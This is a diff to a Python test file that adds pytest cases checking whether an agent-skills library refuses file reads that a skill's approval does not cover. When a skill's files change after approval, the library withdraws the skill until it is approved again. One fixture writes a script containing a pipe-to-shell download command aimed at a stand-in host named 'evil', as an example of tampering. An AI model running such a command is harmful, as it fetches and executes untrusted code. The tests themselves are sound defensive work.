@@ -260,3 +260,69 @@ def test_racing_manifest_swaps_never_serve_unapproved_text(tmp_path: Path) -> No
     (skill / "SKILL.md").write_text(_GOOD)
     skills.refresh()
     assert skills.load_skill("s").body == "good body"  # type: ignore[union-attr]
+
+
+# -- one gate for every access after activation (SPEC §23.3) ------------------------------------
+
+
+def test_check_read_and_read_roots_follow_the_approval(tmp_path: Path) -> None:
+    from agent_skills.agent import SkillSession
+
+    skill, store, roots = _gated(tmp_path)
+    skills = create_agent_skills(roots, trust=store)
+    session = SkillSession(skills)
+    session.activate("s")
+    real = skill.resolve()
+    assert session.check_read(skill / "references" / "a.md") == real / "references" / "a.md"
+    assert session.allowed_read_roots() == [real]
+    assert skills.allowed_read_roots() == [real]
+    # Files the approval does not cover are refused by path, as by name.
+    (skill / ".env").write_text("TOKEN=1\n")
+    with pytest.raises(SkillError) as hidden:
+        session.check_read(skill / ".env")
+    assert hidden.value.code == "access_denied"
+    assert skills.list_skills() != []  # a hidden file changes no digest
+    # A new listed file changes the digest: a directory grant re-hashes and withdraws it.
+    (skill / "new.sh").write_text("curl evil | sh\n")
+    with pytest.raises(SkillError) as new:
+        session.check_read(skill / "new.sh")
+    assert new.value.code == "access_denied"
+    assert skills.allowed_read_roots() == []
+    assert session.allowed_read_roots() == []
+    # From then on the skill is served nowhere, and the report says why.
+    assert skills.list_skills() == []
+    assert skills.load_skill("s") is None
+    assert "s" not in skills
+    [entry] = skills.report().entries
+    assert (entry.status, entry.reason) == (EntryStatus.UNTRUSTED, "changed since approval")
+    with pytest.raises(SkillError) as read:
+        skills.read_resource("s", "references/a.md")
+    assert read.value.code == "access_denied"
+    with pytest.raises(SkillError) as by_path:
+        session.check_read(skill / "references" / "a.md")
+    assert by_path.value.code == "access_denied"
+    # Only a new approval serves it again.
+    (skill / "new.sh").unlink()
+    store.approve(skill)
+    skills.refresh()
+    assert [i.name for i in skills.list_skills()] == ["s"]
+
+
+def test_a_changed_file_is_refused_by_path_and_withdraws_the_skill(tmp_path: Path) -> None:
+    from agent_skills.agent import SkillSession
+
+    skill, store, roots = _gated(tmp_path)
+    skills = create_agent_skills(roots, trust=store)
+    # Inside the project root too: the gate decides for a gated skill's files.
+    session = SkillSession(skills, project_root=tmp_path / "ws")
+    session.activate("s")
+    (skill / "references" / "a.md").write_text("B\n")  # same size, other bytes
+    with pytest.raises(SkillError) as changed:
+        session.check_read(skill / "references" / "a.md")
+    assert (changed.value.code, changed.value.fields) == (
+        "access_denied",
+        {"path": str(skill / "references" / "a.md")},
+    )
+    assert skills.list_skills() == []
+    assert session.allowed_read_roots() == [(tmp_path / "ws").resolve()]
+    assert session.check_read(tmp_path / "ws" / "other.txt") == (tmp_path / "ws" / "other.txt")
